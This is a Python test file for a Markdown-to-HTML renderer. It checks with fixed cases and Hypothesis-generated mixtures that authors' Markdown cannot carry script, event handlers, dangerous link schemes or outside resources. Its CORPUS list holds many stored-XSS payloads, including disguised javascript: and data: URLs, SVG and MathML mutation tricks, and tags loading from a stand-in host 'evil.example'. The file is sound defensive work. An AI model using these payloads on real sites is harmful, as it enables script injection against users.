"""Authors' Markdown: what it may do, and that nothing in it can run or call elsewhere."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from questions.markdown import BLOCK_TAGS, render_inline_markdown, render_markdown

pytestmark = pytest.mark.pure

# Stored XSS as it is tried on Markdown: raw HTML, handlers, schemes in every disguise, entities, SVG and MathML
# tricks that survive naive cleaning, style and frame tags, and addresses that only look local.
CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;script:alert(1))",
    "[x](&#x6A&#x61&#x76ascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://here/1)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example\\)",
    "[x](https:evil.example)",
    "[x](/%0d//evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](/static/../accounts/logout/)",
    '![x](/static/a.png "onload=alert(1)")',
    '![" onerror="alert(1)](/static/a.png)',
    '[a](https://x.example "\\" onmouseover=alert(1)")',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p></div></fieldset></form><form action=//evil.example><input name=csrf>",
]
ALLOWED = {"a": {"href", "title", "rel"}, "img": {"src", "alt"}, "ol": {"start"}}


class _Reader(HTMLParser):
    """Notes every tag, attribute and address that a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attributes):
        self.seen.append((tag, {name: value or "" for name, value in attributes}))

    def handle_comment(self, data):
        raise AssertionError("a comment came through")


def assert_harmless(html: str) -> None:
    reader = _Reader()
    reader.feed(html)
    for tag, attributes in reader.seen:
        assert tag in BLOCK_TAGS
        assert set(attributes) <= ALLOWED.get(tag, set())
        if href := attributes.get("href"):
            assert href.startswith(("https://", "http://", "#")) or (href[0] == "/" and href[1:2] not in ("/", "\\"))
            assert attributes["rel"] == "noopener"
        if tag == "img":
            assert attributes["src"].startswith("/static/")
            assert ".." not in attributes["src"]


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_in_the_corpus_runs_or_calls_elsewhere(text):
    assert_harmless(render_markdown(text))
    assert_harmless(render_inline_markdown(text))


@given(
    st.lists(st.sampled_from([*CORPUS, "**", "`", "\n", "\n\n", "[", "](", ")", "<", ">", '"', "'", "- "]), max_size=6)
)
def test_no_mixture_of_the_corpus_does(parts):
    assert_harmless(render_markdown("".join(parts)))
    assert_harmless(render_inline_markdown("".join(parts)))


def test_what_authors_write_works():
    html = render_markdown("A **bold** `heroku ps`:\n\n- one\n- two\n\n[Docs](https://devcenter.heroku.com/)")
    assert html == (
        "<p>A <strong>bold</strong> <code>heroku ps</code>:</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
        '<p><a href="https://devcenter.heroku.com/" rel="noopener">Docs</a></p>\n'
    )


def test_running_text_has_no_blocks():
    assert render_inline_markdown("Use `web=2`\nor *more*") == "Use <code>web=2</code> or <em>more</em>"
    assert render_inline_markdown("- no list") == "- no list"


def test_an_image_from_elsewhere_leaves_nothing_behind():
    assert "img" not in render_markdown("![x](https://elsewhere.example/p.png)")


def test_our_own_picture_stays():
    assert 'src="/static/notes/space.svg"' in render_markdown("![A space](/static/notes/space.svg)")


def test_a_long_hostile_text_is_quick():
    html = render_markdown("[" * 5000 + "](" * 5000)
    assert len(html) < 100_000
